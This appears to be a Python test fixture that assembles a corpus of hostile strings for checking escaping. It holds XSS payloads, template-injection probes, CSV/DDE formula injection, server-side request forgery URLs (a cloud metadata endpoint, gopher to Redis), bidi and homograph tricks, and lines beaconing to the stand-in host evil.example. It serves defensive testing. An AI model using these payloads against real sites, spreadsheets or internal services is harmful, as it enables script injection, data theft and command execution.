"""Hostile strings, by family: what runs where something forgets to escape, and what turns a line around or hides in it.

Written for this project; the families are those of the OWASP cheat sheets on XSS filter evasion and on CSV injection, and of
Unicode's TR36 and TR39. Each script calls ``alert(N)``: what the hook in the browser counts (tests/attacks/pages.py).
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote


@dataclass(frozen=True, slots=True)
class Attack:
    """A string, and the family that it belongs to."""

    family: str
    text: str

    def __str__(self) -> str:
        return f"{self.family}: {self.text[:60]!r}"


RUN = "alert(7)"
_EVENTS = (
    *(
        "onload onerror onclick ondblclick onmousedown onmouseover onmouseenter onmousemove onfocus onfocusin onblur onkeydown".split()
    ),
    *(
        "oninput onchange onsubmit onreset onselect ontoggle onbeforetoggle onanimationstart onanimationend ontransitionend".split()
    ),
    *(
        "onwheel onscroll onscrollend onpointerover onpointerenter onpointerrawupdate oncontextmenu oncopy oncut onpaste".split()
    ),
    *(
        "ondrag ondrop onhashchange onpageshow onpopstate onmessage onbegin onend onrepeat onplay oncanplay onloadstart".split()
    ),
)
_HOLDERS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "a href=# tabindex=1",
    "marquee",
)
_QUOTES = (
    "",
    "'",
    '"',
    "`",
    "\\'",
    '\\"',
    "</p>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</bdi>",
)
_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<script/src=data:,{RUN}></script>",
    f"<script\n>{RUN}</script\n>",
    f"<script\x0c>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>/*<!--*/{RUN}//--></script>",
    f"<script type=module>{RUN}</script>",
    f"<script nomodule>{RUN}</script>",
    f'<script type=importmap>{{"imports":{{"x":"data:text/javascript,{RUN}"}}}}</script>',
    f"<script nonce=x>{RUN}</script>",
    "<script>eval(atob('YWxlcnQoNyk='))</script>",
    "<script>top[8680439..toString(30)](7)</script>",
    "<script>\\u0061lert(7)</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<script>{RUN}",
    f"<<script>{RUN}//<</script>",
)
_TAGS = (
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<iframe src=data:text/html,<script>{RUN}</script>>",
    f"<object data=javascript:{RUN}></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg=='></object>",
    f"<embed src=javascript:{RUN}>",
    "<embed code=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<link rel=prefetch href=//evil.example/seen>",
    "<link rel=dns-prefetch href=//evil.example>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "<form action=//evil.example/><input name=csrf_token><button>Enviar</button></form>",
    f"<form id=x></form><button form=x formaction=javascript:{RUN}>x</button>",
    "<button formaction=//evil.example>Tomar</button>",
    f"<input type=image src=x onerror={RUN}>",
    f"<isindex action=javascript:{RUN} type=submit>",
    f"<table background=javascript:{RUN}><td>",
    f"<div style=background:url(javascript:{RUN})>",
    f"<div style=width:expression({RUN})>",
    "<style>*{background:url(//evil.example/seen)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<plaintext>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"<frameset onload={RUN}>",
    f"<template><script>{RUN}</script></template>",
    "<portal src=//evil.example>",
    "<img src=//evil.example/seen.png>",
    "<img src='//evil.example/?",
    "<img srcset='//evil.example/a 1x'>",
    "<picture><source srcset=//evil.example/a><img></picture>",
    f"<video><source src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    "<a href=//evil.example target=_blank>Abrir</a>",
    "<a ping=//evil.example href=#>x</a>",
    "<dialog open>Su sesión terminó<form method=dialog></form></dialog>",
    "<slot name=x></slot><p slot=x id=main>",
)
_HTMX = (
    f"<div hx-on:load={RUN}></div>",
    f"<div hx-on::after-request={RUN} hx-get=/console/ hx-trigger=load></div>",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "<div hx-post=/console/logout hx-trigger=load></div>",
    "<div data-hx-get=/console/audit hx-trigger=load hx-target=body></div>",
    f"<div hx-vals='js:{{x:{RUN}}}' hx-get=/console/ hx-trigger=load></div>",
    "<div hx-ext=x hx-disinherit=* hx-boost=true></div>",
    "<p id=thread-live data-announce=x data-heard=1></p>",
    "<form id=act></form><input form=act name=csrf_token value=x>",
    "<p data-polled data-draft=x data-log-in=x data-expired=x>",
)
_URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"javascript://www.example.org/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"blob:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    "file:///etc/passwd",
    "//evil.example/",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "https:evil.example",
    "https://example.org@evil.example/",
    "https://example.org\u2044.evil.example/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::ffff:127.0.0.1]:5005/model/parse",
    "gopher://127.0.0.1:6379/_FLUSHALL",
)
_TEMPLATES = (
    *(
        "{{7*7}}",
        "{{config}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{% raw %}{{7}}{% endraw %}",
        "{%include '/etc/passwd'%}",
    ),
    *(
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "${{7*7}}",
        "@(7*7)",
        "*{7*7}",
        "~{7*7}",
        "[[${7*7}]]",
        "{{=7*7}}",
        "{php}phpinfo(){/php}",
    ),
    *(
        "$hotline",
        "${hotline}",
        "${o.secret}",
        "$$",
        "$",
        "{0.__class__}",
        "{x:>100000000}",
        "%(name)s",
        "%s%s%s%n",
        "%n%n%n",
    ),
    *(
        "{{request.application.__globals__}}",
        "{{url_for.__globals__}}",
        "{{get_flashed_messages.__globals__}}",
        "{{cycler.__init__}}",
    ),
    *(
        "<%# x %>",
        "{{constructor.constructor('alert(7)')()}}",
        "{{$on.constructor('alert(7)')()}}",
        "[[constructor]]",
        "v-html='alert(7)'",
    ),
)
_SVG = (
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<svg><set xlink:href=#a attributeName=href to=javascript:{RUN} />",
    f"<svg><animate attributeName=href values=javascript:{RUN} />",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    "<svg><image href=//evil.example/seen.svg /></svg>",
    "<svg><style>@import url(//evil.example/x.css);</style></svg>",
    f"<svg><title><style><img src='</style></title><img src=x onerror={RUN}>'>",
    f"<svg><discard onbegin={RUN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
)
_CELLS = tuple(
    begin + rest
    for begin, rest in itertools.product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', ";=", ",=", "＝", "＋"),
        ("cmd|' /C calc'!A0", 'HYPERLINK("//evil.example?"&A1,"Abrir")', "1+1"),
    )
) + (
    '=IMPORTXML("//evil.example","//a")',
    '=WEBSERVICE("//evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
)
OVERRIDES = {
    "LRE": "\u202a",
    "RLE": "\u202b",
    "LRO": "\u202d",
    "RLO": "\u202e",
    "LRI": "\u2066",
    "RLI": "\u2067",
    "FSI": "\u2068",
}
_ENDS = ("", "\u202c", "\u2069", "\u202c\u202c\u202c", "\u2069\u2069\u2069", "\u2029")
_MARKS = (
    "\u200e",
    "\u200f",
    "\u061c",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u180e",
    "\u2028",
    "\u3164",
    "\u034f",
)
_RTL = ("שלום", "مرحبا", "ישלחו 100 לפני 20", "רופא (doctor) 911", "אבג\nabc", "א1!", "ﷺ")
_HOMOGRAPHS = (
    *(
        "роlice",
        "ІCE",
        "аbogado",
        "ехаmple.org",
        "МIGRA",
        "hοy",
        "рuente",
        "ＰＵＥＮＴＥ",
        "𝗣𝘂𝗲𝗻𝘁𝗲",
        "𝓹𝓾𝓮𝓷𝓽𝓮",
        "ⓟⓤⓔⓝⓣⓔ",
        "pυente",
    ),
    *(
        "Pue\u0301nte",
        "Z̸̢̛a̴͝l̵̛g̷̈́o̶̎" * 10,
        "a" + "\u0301" * 200,
        "٩١١",
        "９１１",
        "⑨①①",
        "9\u20e31\u20e31\u20e3",
        "Ⅸ",
        "ǅ",
        "ŉ",
        "ﬁn",
    ),
)
_BROKEN = (
    *(
        "\x00",
        "a\x00<script>alert(7)</script>",
        "\x1b[2J\x1b]0;x\x07",
        "\x08\x08\x08",
        "\x7f",
        "\x85",
        "\x9f",
        "\ufffe",
        "\uffff",
        "\ufffd",
    ),
    *(
        "\U0010ffff",
        "%ED%A0%BD",
        "%F1",
        "%00",
        "%c0%bc" + "script%c0%be",
        "\u00c0\u00bcscript\u00c0\u00be",
        "\\x3cscript\\x3ealert(7)",
    ),
    *(
        "\\u003cscript\\u003ealert(7)",
        "＜script＞alert(7)＜/script＞",
        "‹script›alert(7)‹/script›",
        "\u2039img src=x onerror=alert(7)\u203a",
    ),
    *(
        "\ud83d".encode("utf-8", "surrogatepass").decode("latin-1"),
        "\U000e0001\U000e0020\U000e007f",
        "\u0378",
        "\ue000",
    ),
)
_LONG = (
    *(
        "<" * 300,
        ">" * 300,
        "&" * 300,
        '"' * 300,
        "A" * 500,
        "W" * 300,
        "a " * 250,
        "<b>" * 150,
        "&amp;" * 100,
        "\u202e" * 120,
    ),
    *(
        "🙏" * 140,
        "\n" * 200 + "x",
        "ñ" * 300,
        "-" * 400,
        "W\u00a0" * 200,
        "\u200b" * 200,
        "<div>" * 100,
        "<!--" * 100,
        "\\" * 300,
    ),
)


def corpus() -> tuple[Attack, ...]:
    """All of them, in a fixed order, none twice."""
    return tuple(dict.fromkeys(_all()))


def _all() -> Iterator[Attack]:
    families: dict[str, tuple[str, ...]] = {
        "script": _SCRIPTS, "tag": _TAGS, "htmx": _HTMX, "address": _URLS, "template": _TEMPLATES, "svg and mathml": _SVG,
        "cell": _CELLS, "right to left": _RTL, "homograph": _HOMOGRAPHS, "broken": _BROKEN, "long": _LONG,
    }  # fmt: skip
    for family, texts in families.items():
        yield from (Attack(family, text) for text in texts)
    yield from (Attack("event", text) for text in _events())
    yield from (Attack("breaking out", text) for text in _breaking_out())
    yield from (Attack("nested", text) for text in _nested())
    yield from (Attack("bidi", text) for text in _bidi())
    yield from (Attack("invisible", f"la mi{mark}gra{mark} 911{mark}") for mark in _MARKS)


def _events() -> Iterator[str]:
    for event, holder in zip(_EVENTS, itertools.cycle(_HOLDERS), strict=False):
        yield f"<{holder} {event}={RUN}>"


def _breaking_out() -> Iterator[str]:
    """Out of a text, an attribute, a comment, a field, a script."""
    for end in _QUOTES:
        yield f"{end}><img src=x onerror={RUN}>"
        yield f"{end} onmouseover={RUN} autofocus onfocus={RUN} x={end}"
    yield f"\\u0022-{RUN}-\\u0022"
    yield f"';{RUN}//"
    yield f'";{RUN}//'
    yield f"</script><script>{RUN}</script>"
    yield f"`${{{RUN}}}`"
    yield f"--!><script>{RUN}</script>"
    yield f"]]><script>{RUN}</script>"
    yield f"*/{RUN}/*"
    yield f"\u2028{RUN}//"


def _nested() -> Iterator[str]:
    """Encoded once, twice, thrice, and by halves: where something decodes once too often."""
    for text in (f"<img src=x onerror={RUN}>", f'"><svg onload={RUN}>'):
        entities = "".join(f"&#{ord(sign)};" for sign in text)
        yield text.replace("<", "&lt;").replace(">", "&gt;")
        yield text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
        yield text.replace("<", "&LT").replace(">", "&GT")
        yield text.replace("<", "&#60").replace(">", "&#62")
        yield text.replace("<", "&#x000003c;").replace(">", "&#x3E;")
        yield entities
        yield entities.replace("&", "&amp;")
        yield quote(text)
        yield quote(quote(text))
        yield quote(quote(quote(text)))
        yield "".join(f"\\x{ord(sign):02x}" for sign in text)
        yield "".join(f"\\u{ord(sign):04x}" for sign in text)
        yield text.encode("utf-16-le").decode("latin-1").replace("\x00", "\u200b")
        yield text.replace("<", "\uff1c").replace(">", "\uff1e")
        yield text[: len(text) // 2] + "\x00" + text[len(text) // 2 :]


def _bidi() -> Iterator[str]:
    """A line turned around, in all ways, with and without its end: what stands behind it must stay as it is."""
    for sign, end in itertools.product(OVERRIDES.values(), _ENDS):
        yield f"Llame al {sign}119 oveun on{end} hoy"
    yield "\u202eaicilop al se on otse"
    yield "".join(OVERRIDES.values()) * 20
    yield "abre \u2067puerta\u2066 la \u2069no\u2069"
    yield "\u202e\u2066no\u2069\u202c abra la puerta"
